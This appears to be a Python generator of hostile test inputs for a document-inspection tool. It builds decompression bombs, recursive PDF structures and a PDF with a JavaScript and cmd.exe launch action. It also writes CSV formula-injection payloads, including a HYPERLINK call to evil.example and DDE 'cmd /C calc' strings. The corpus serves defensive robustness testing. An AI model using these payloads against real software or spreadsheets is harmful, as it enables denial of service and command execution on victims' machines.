"""Generate the hostile-input corpus: files a smuggler could hand over to crash or stall Inspector.

Run `python tests/data/hostile/make_hostile.py OUTDIR` to write them to a folder for manual trials;
the tests build them in a temporary directory instead, so nothing binary is committed. Every file is
made here from first principles (its bytes written by hand, or by Pillow), and each says what
Inspector must do with it: refuse it with a sentence (`expect` is a piece of that sentence), or
read it (`expect` is None). Either way: no traceback, no crash, bounded time and memory.

`CSV_MAKERS` are the licence and watchlist CSV files of the same corpus (`rules import-*`).
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

from tests.data.bad import make_bad as bad  # noqa: E402

READ = None  # expected outcome: the file is read (exit 0), whatever its lane
SMALL = (620, 877)  # an A4 page at 75 dpi: small enough to OCR in a blink


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus: its name (bytes: some are not UTF-8), its maker and what must happen."""

    name: bytes
    make: Callable[[], bytes]
    expect: str | None  # a piece of the refusal sentence, or READ
    what: str  # the family, for the counts
    slow: bool = False  # costs a minute (a decoding time limit, a 100-megapixel page): slow tests only


def _save(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def _page(lines: int = 4) -> Image.Image:
    return bad.text_page(lines=lines, size=SMALL)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = b"BT /F1 24 Tf 72 720 Td (COMMERCIAL INVOICE No. 77) Tj ET"


def _one_page(page_extra: bytes = b"", content: bytes = _TEXT, catalog: bytes = _CATALOG,
              more: tuple[bytes, ...] = (), resources: bytes = b"") -> bytes:
    """A one-page A4 PDF; `more` objects are numbered from 6."""
    return bad.pdf_file([
        catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (resources, page_extra),
        _stream(content), _FONT, *more,
    ])


# --- images -----------------------------------------------------------------------------------

def truncated_png() -> bytes:
    data = _save(_page(), "PNG")
    return data[: len(data) // 2]


def bad_crc_png() -> bytes:
    data = bytearray(_save(_page(), "PNG"))
    data[29] ^= 0xFF  # last byte of the IHDR CRC
    return bytes(data)


def zero_width_png() -> bytes:
    header = struct.pack(">IIBBBBB", 0, 1000, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + bad._png_chunk(b"IHDR", header)
            + bad._png_chunk(b"IDAT", zlib.compress(b"")) + bad._png_chunk(b"IEND", b""))


def text_bomb_png() -> bytes:
    """A PNG whose zTXt chunk inflates to 200 MB."""
    data = _save(_page(1), "PNG")
    ztxt = b"Comment\x00\x00" + zlib.compress(b"A" * 200_000_000, 9)
    return data[:33] + bad._png_chunk(b"zTXt", ztxt) + data[33:]


def dense_bomb_png(width: int = 12000, height: int = 12000) -> bytes:
    """A real decompression bomb: every row present, all white (144 MP in a few hundred kB)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    zc = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * width
    body = b"".join(zc.compress(row) for _ in range(height)) + zc.flush()
    return (b"\x89PNG\r\n\x1a\n" + bad._png_chunk(b"IHDR", header) + bad._png_chunk(b"IDAT", body)
            + bad._png_chunk(b"IEND", b""))


def _tiff(width: int, height: int, strip: bytes, *, next_ifd: int | None = 0,
          strip_offset: int | None = None, bits: int = 8) -> bytes:
    """A little-endian one-strip grayscale TIFF built by hand (so its header may lie)."""
    tags = [(256, 4, width), (257, 4, height), (258, 3, bits), (259, 3, 1), (262, 3, 1),
            (273, 4, 0), (277, 3, 1), (278, 4, height), (279, 4, len(strip))]
    ifd_end = 8 + 2 + 12 * len(tags) + 4
    out = bytearray(b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(tags)))
    for tag, kind, value in tags:
        value = (strip_offset if strip_offset is not None else ifd_end) if tag == 273 else value
        out += struct.pack("<HHI", tag, kind, 1) + (struct.pack("<HH", value, 0) if kind == 3
                                                    else struct.pack("<I", value))
    out += struct.pack("<I", 8 if next_ifd is None else next_ifd)  # None: the IFD points at itself
    return bytes(out + strip)


def bomb_tiff() -> bytes:
    return _tiff(100_000, 100_000, b"\x00" * 64)


def ifd_loop_tiff() -> bytes:
    return _tiff(400, 400, b"\xff" * 400 * 400, next_ifd=None)


def strip_past_end_tiff() -> bytes:
    return _tiff(640, 480, b"\xff" * 64, strip_offset=10_000_000)


def truncated_tiff() -> bytes:
    data = _save(_page(), "TIFF")
    return data[: len(data) // 3]


def many_pages_tiff(count: int = 300) -> bytes:
    frame = Image.new("L", (64, 64), 255)
    return _save(frame, "TIFF", save_all=True, append_images=[frame] * (count - 1))


def float_tiff() -> bytes:
    return _save(_page().convert("F"), "TIFF")


def one_bit_tiff() -> bytes:
    return _save(_page().convert("1"), "TIFF", compression="group4")


def bomb_jpeg(width: int = 65_000, height: int = 65_000) -> bytes:
    """A JPEG header (SOI, DQT, SOF0) declaring a huge image, then the end marker."""
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + dqt + sof + b"\xff\xd9"


def garbled_jpeg() -> bytes:
    data = bytearray(_save(_page(), "JPEG", quality=80))
    middle = len(data) // 2
    data[middle: middle + 400] = bad.random_bytes(400)
    return bytes(data)


def cmyk_jpeg() -> bytes:
    return _save(_page().convert("CMYK"), "JPEG", quality=85)


def bad_exif_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 9  # orientation 9 does not exist
    exif[0x011A] = 0  # x resolution 0
    return _save(_page(), "JPEG", exif=exif.tobytes())


def sixteen_bit_png() -> bytes:
    return _save(_page().convert("I;16"), "PNG")


def one_pixel_png() -> bytes:
    return _save(Image.new("L", (1, 1), 0), "PNG")


def sliver_png() -> bytes:
    return _save(Image.new("L", (8, 30_000), 255), "PNG")


# --- PDFs -------------------------------------------------------------------------------------

def truncated_pdf() -> bytes:
    data = _one_page()
    return data[: len(data) * 2 // 3]


def broken_xref_pdf() -> bytes:
    data = _one_page()
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    return data[:at] + b"999999\n%%EOF\n"


def image_bomb_pdf(side: int = 12_500) -> bytes:
    """An A4 page drawing one 12500 x 12500 gray image that deflates from 150 kB to 156 MB (PDFium would
    decode a 40000 x 40000 one, 1.6 GB, as readily: the check is on the declared size)."""
    zc = zlib.compressobj(9)
    block = b"\x00" * (1 << 20)
    left, parts = side * side, []
    while left > 0:
        parts.append(zc.compress(block[: min(left, len(block))]))
        left -= len(block)
    parts.append(zc.flush())
    image = _stream(b"".join(parts), b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                    b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode" % (side, side))
    return _one_page(content=b"q 595 0 0 842 0 0 cm /Im1 Do Q", more=(image,),
                     resources=b"/XObject << /Im1 6 0 R >>")


def user_unit_pdf() -> bytes:
    """A page of 595 x 842 units of 75000 points each (a page over 600 km wide)."""
    return _one_page(b"/UserUnit 75000")


def deep_array_pdf(depth: int = 100_000) -> bytes:
    return _one_page(b"/Deep " + b"[" * depth + b"]" * depth)


def deep_content_pdf(depth: int = 50_000) -> bytes:
    """A content stream of 50000 nested save states and arrays."""
    return _one_page(content=b"q " * depth + b"[" * depth + _TEXT + b"]" * depth + b" Q" * depth)


def deep_pages_pdf(depth: int = 5000) -> bytes:
    """A page tree 5000 Pages nodes deep above its only page."""
    objects = [_CATALOG]
    for level in range(depth):
        number = level + 2
        parent = b"/Parent %d 0 R " % (number - 1) if level else b""
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, number + 1))
    page = len(objects) + 1
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
                   % (page - 1, page + 1))
    objects.append(_stream(_TEXT))
    return bad.pdf_file(objects)


def cyclic_pages_pdf() -> bytes:
    """Pages nodes that list each other as kids."""
    return bad.pdf_file([_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
                         b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"])


def fan_out_form_pdf(depth: int = 40) -> bytes:
    """Form XObjects that each draw the next one twice, 40 deep: 2^40 drawings in 3 kB, which PDFium
    would parse for ever (the sandbox stops it)."""
    forms = []
    for level in range(depth):
        number = 6 + level
        if level < depth - 1:
            body, resources = b"/Fx Do /Fx Do", b"/XObject << /Fx %d 0 R >>" % (number + 1)
        else:
            body, resources = _TEXT, b"/Font << /F1 5 0 R >>"
        forms.append(_stream(body, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << %s >>"
                             % resources))
    return _one_page(content=b"/Fx Do", more=tuple(forms), resources=b"/XObject << /Fx 6 0 R >>")


def recursive_form_pdf() -> bytes:
    """A form XObject that draws itself."""
    form = _stream(b"/Fm1 Do " + _TEXT, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                   b"/Resources << /XObject << /Fm1 6 0 R >> /Font << /F1 5 0 R >> >>")
    return _one_page(content=b"/Fm1 Do", more=(form,), resources=b"/XObject << /Fm1 6 0 R >>")


def unknown_handler_pdf() -> bytes:
    data = _one_page(more=(b"<< /Filter /NotAHandler /V 9 /R 9 >>",))
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 6 0 R /ID [<00> <00>]")


def empty_password_pdf() -> bytes:
    return bad.encrypted_pdf(user_password=b"")


def javascript_pdf() -> bytes:
    js = b"<< /S /JavaScript /JS (app.alert('pwned'); this.exportDataObject({cName: 'x', nLaunch: 2});) >>"
    launch = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    catalog = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R "
               b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> /AA << /WC 7 0 R >> >>")
    return _one_page(b"/AA << /O 6 0 R >>", catalog=catalog, more=(js, launch))


def thousands_pages_pdf(count: int = 5000) -> bytes:
    """5000 pages sharing one content stream."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    objects = [_CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
               _stream(_TEXT), _FONT]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
                b"/Resources << /Font << /F1 4 0 R >> >> >>"] * count
    return bad.pdf_file(objects)


def count_lie_pdf() -> bytes:
    return _one_page().replace(b"/Count 1", b"/Count 2000000000")


def negative_box_pdf() -> bytes:
    return _one_page().replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 -1e30 1e30]")


def png_image() -> bytes:
    return _save(_page(), "PNG", dpi=(75, 75))


def pdf_document() -> bytes:
    return _save(_page().convert("RGB"), "PDF", resolution=75)


def jpeg_image() -> bytes:
    return _save(_page(), "JPEG", quality=85, dpi=(75, 75))


MAKERS: tuple[Hostile, ...] = (
    Hostile(b"empty.pdf", lambda: b"", "The file is empty (0 bytes)", "zero-byte"),
    Hostile(b"empty.png", lambda: b"", "The file is empty (0 bytes)", "zero-byte"),
    Hostile(b"empty.tif", lambda: b"", "The file is empty (0 bytes)", "zero-byte"),
    Hostile(b"empty.jpg", lambda: b"", "The file is empty (0 bytes)", "zero-byte"),
    Hostile(b"truncated.jpg", bad.truncated_jpeg, "This JPEG is truncated", "truncated"),
    Hostile(b"truncated.png", truncated_png, "This PNG", "truncated"),
    Hostile(b"truncated.tif", truncated_tiff, "This TIFF", "truncated"),
    Hostile(b"truncated.pdf", truncated_pdf, "This PDF file is damaged", "truncated"),
    Hostile(b"bad_crc.png", bad_crc_png, "This PNG file is damaged", "corrupt"),
    Hostile(b"zero_width.png", zero_width_png, "This PNG file is damaged", "corrupt"),
    Hostile(b"garbled.jpg", garbled_jpeg, "This JPEG file is damaged", "corrupt"),
    Hostile(b"ifd_loop.tif", ifd_loop_tiff, READ, "corrupt"),
    Hostile(b"strip_past_end.tif", strip_past_end_tiff, "This TIFF", "corrupt"),
    Hostile(b"random.pdf", bad.random_bytes, "not a PDF or image", "corrupt"),
    Hostile(b"damaged.pdf", bad.damaged_pdf, "This PDF file is damaged", "corrupt"),
    Hostile(b"broken_xref.pdf", broken_xref_pdf, READ, "corrupt"),
    Hostile(b"negative_box.pdf", negative_box_pdf, READ, "corrupt"),  # PDFium falls back to Letter
    Hostile(b"bomb_100k.png", lambda: bad.bomb_png(100_000, 100_000), "may be a decompression bomb", "bomb"),
    Hostile(b"bomb_dense.png", dense_bomb_png, "may be a decompression bomb", "bomb"),
    Hostile(b"bomb_just_under.png", lambda: dense_bomb_png(10_000, 10_000), READ, "bomb", slow=True),
    Hostile(b"bomb_100k.tif", bomb_tiff, "may be a decompression bomb", "bomb"),
    Hostile(b"bomb_65k.jpg", bomb_jpeg, "may be a decompression bomb", "bomb"),
    Hostile(b"text_bomb.png", text_bomb_png, "This PNG file is damaged", "bomb"),
    Hostile(b"image_bomb.pdf", image_bomb_pdf, "may be a decompression bomb", "bomb"),
    Hostile(b"huge_page.pdf", bad.huge_page_pdf, "over the 120-megapixel limit", "bomb"),
    Hostile(b"user_unit.pdf", user_unit_pdf, READ, "bomb"),  # PDFium ignores UserUnit: an A4 page
    Hostile(b"deep_array.pdf", deep_array_pdf, READ, "nested"),
    Hostile(b"deep_content.pdf", deep_content_pdf, READ, "nested"),
    Hostile(b"deep_pages.pdf", deep_pages_pdf, "Page 1 of this PDF cannot be read", "nested"),
    Hostile(b"cyclic_pages.pdf", cyclic_pages_pdf, "Page 1 of this PDF cannot be read", "nested"),
    Hostile(b"recursive_form.pdf", recursive_form_pdf, READ, "nested"),
    # stopped at the page time limit, or dead of its memory cap first: PDFium's objects grow too
    Hostile(b"fan_out_forms.pdf", fan_out_form_pdf, "built to break the reader", "nested", slow=True),
    Hostile(b"encrypted.pdf", bad.encrypted_pdf, "This PDF is password-protected", "encrypted"),
    Hostile(b"unknown_handler.pdf", unknown_handler_pdf, "encryption", "encrypted"),
    Hostile(b"empty_password.pdf", empty_password_pdf, READ, "encrypted"),  # opens without asking
    Hostile(b"javascript.pdf", javascript_pdf, READ, "javascript"),  # PDFium runs no JavaScript
    Hostile(b"pages_5000.pdf", thousands_pages_pdf, "5000 pages, over the 200-page limit", "many pages"),
    Hostile(b"count_lie.pdf", count_lie_pdf, READ, "many pages"),
    Hostile(b"frames_300.tif", many_pages_tiff, "300 pages, over the 200-page limit", "many pages"),
    Hostile(b"float.tif", float_tiff, READ, "odd image"),
    Hostile(b"one_bit.tif", one_bit_tiff, READ, "odd image"),
    Hostile(b"cmyk.jpg", cmyk_jpeg, READ, "odd image"),
    Hostile(b"bad_exif.jpg", bad_exif_jpeg, READ, "odd image"),
    Hostile(b"sixteen_bit.png", sixteen_bit_png, READ, "odd image"),
    Hostile(b"one_pixel.png", one_pixel_png, "too small or too narrow to be a page", "odd image"),
    Hostile(b"sliver.png", sliver_png, "too small or too narrow to be a page", "odd image"),
    Hostile(b"invoice.pdf.png", pdf_document, READ, "wrong extension"),  # a PDF named .png
    Hostile(b"scan.tif", png_image, READ, "wrong extension"),  # a PNG named .tif
    Hostile(b"photo.pdf", jpeg_image, READ, "wrong extension"),  # a JPEG named .pdf
    Hostile(b"letter.pdf", bad.docx_like, "(it is a ZIP archive or Office document)", "wrong extension"),
    Hostile(b"notes.jpg", lambda: b"Packing list 1,250 kg\n" * 50, "(it is plain text)", "wrong extension"),
    Hostile(b"invoice-\xff\xfe.png", png_image, READ, "non-UTF-8 name"),  # not UTF-8
    Hostile("发票".encode("gbk") + b".pdf", pdf_document, READ, "non-UTF-8 name"),  # GBK bytes
    Hostile(b"\xe9t\xe9.jpg", jpeg_image, READ, "non-UTF-8 name"),  # Latin-1 bytes
)


# --- CSV imports ------------------------------------------------------------------------------

LICENCE_HEADER = ("licence_number,holder,consignee,end_user,destination_country,hs_code,quantity_kg,"
                  "valid_from,valid_to")
_LICENCE = "LIC-2026-000077,Ganzhou Rare Earth Co.,Straits Trading Pte. Ltd.,Straits Trading,SG,2846.90,985,2026-01-01,2026-12-31"
_WATCH_HEADER = "name,aliases,country,list,reason"


def _licences(*rows: str) -> str:
    return "\n".join((LICENCE_HEADER, *rows)) + "\n"


def _watch(*rows: str) -> str:
    return "\n".join((_WATCH_HEADER, *rows)) + "\n"


@dataclass(frozen=True)
class HostileCsv:
    """One CSV of the corpus: licences or a watchlist, and a piece of the refusal (None: imported)."""

    name: str
    kind: str  # "licences" or "watchlist"
    data: bytes
    expect: str | None


CSV_MAKERS: tuple[HostileCsv, ...] = (
    HostileCsv("hyperlink.csv", "licences", _licences(_LICENCE.replace(
        "Ganzhou Rare Earth Co.", '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"')).encode(), "formula"),
    HostileCsv("plus.csv", "licences", _licences(_LICENCE.replace("Straits Trading Pte. Ltd.", "+cmd|' /C calc'!A0")).encode(),
               "formula"),
    HostileCsv("minus.csv", "licences", _licences(_LICENCE.replace("Straits Trading,", "-2+3+cmd|' /C calc'!A0,")).encode(),
               "formula"),
    HostileCsv("at.csv", "watchlist", _watch("@SUM(1+1)*cmd|' /C calc'!A0,,RU,LIST,reason").encode(), "formula"),
    HostileCsv("tab.csv", "watchlist", _watch('"\t=1+1",,RU,LIST,reason').encode(), "formula"),
    HostileCsv("alias_formula.csv", "watchlist", _watch("Acme Ltd,=HYPERLINK(\"x\");Acme,RU,LIST,r").encode(), "formula"),
    HostileCsv("bad_date.csv", "licences", _licences(_LICENCE.replace("2026-12-31", "31/12/2026")).encode(),
               "line 2: valid_to '31/12/2026' is not an ISO date"),
    HostileCsv("bad_country.csv", "licences", _licences(_LICENCE.replace(",SG,", ",Singapore,")).encode(),
               "line 2: destination_country"),
    HostileCsv("negative_qty.csv", "licences", _licences(_LICENCE, _LICENCE.replace(",985,", ",-5,")).encode(),
               "line 3: quantity_kg '-5' must be above zero"),
    HostileCsv("short_row.csv", "licences", _licences("LIC-1,Holder").encode(), "line 2"),
    HostileCsv("no_header.csv", "licences", (_LICENCE + "\n").encode(), "line 1: the header lacks"),
    HostileCsv("nul_bytes.csv", "licences", _licences(_LICENCE.replace("Ganzhou", "Gan\x00zhou")).encode(), "NUL"),
    HostileCsv("huge_cell.csv", "watchlist", _watch("A" * 300_000 + ",,RU,LIST,r").encode(), "could not be read"),
    HostileCsv("binary.csv", "licences", bad.random_bytes(4096), "not UTF-8 text"),
    HostileCsv("empty.csv", "watchlist", b"", "the header is none of"),
    HostileCsv("gbk.csv", "watchlist", _watch("赣州稀土集团,,CN,LIST,理由").encode("gbk"), "not UTF-8 text"),
    HostileCsv("latin1.csv", "watchlist", _watch("Société Générale Métaux,,FR,LIST,r").encode("latin-1"),
               "not UTF-8 text"),
    HostileCsv("utf16.csv", "watchlist", _watch("赣州稀土集团,,CN,LIST,理由").encode("utf-16"), None),
    HostileCsv("utf8_bom.csv", "licences", b"\xef\xbb\xbf" + _licences(_LICENCE).encode(), None),
    HostileCsv("good.csv", "licences", _licences(_LICENCE, _LICENCE.replace("000077", "000078")).encode(), None),
    HostileCsv("dash_placeholder.csv", "watchlist", _watch("Acme Metals Ltd,-,RU,LIST,-").encode(), None),
)


def write_all(directory: Path) -> dict[bytes, Path]:
    """Write every hostile input file into `directory` (bytes names: some are not UTF-8)."""
    directory.mkdir(parents=True, exist_ok=True)
    out = {}
    for item in MAKERS:
        path = os.path.join(os.fsencode(directory), item.name)
        with open(path, "wb") as handle:
            handle.write(item.make())
        out[item.name] = Path(os.fsdecode(path))
    return out


def write_csvs(directory: Path) -> dict[str, Path]:
    """Write every hostile CSV into `directory`."""
    directory.mkdir(parents=True, exist_ok=True)
    out = {}
    for item in CSV_MAKERS:
        out[item.name] = directory / item.name
        out[item.name].write_bytes(item.data)
    return out


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    for written in (*write_all(target).values(), *write_csvs(target / "csv").values()):
        print(os.fsencode(written).decode("utf-8", "backslashreplace"))
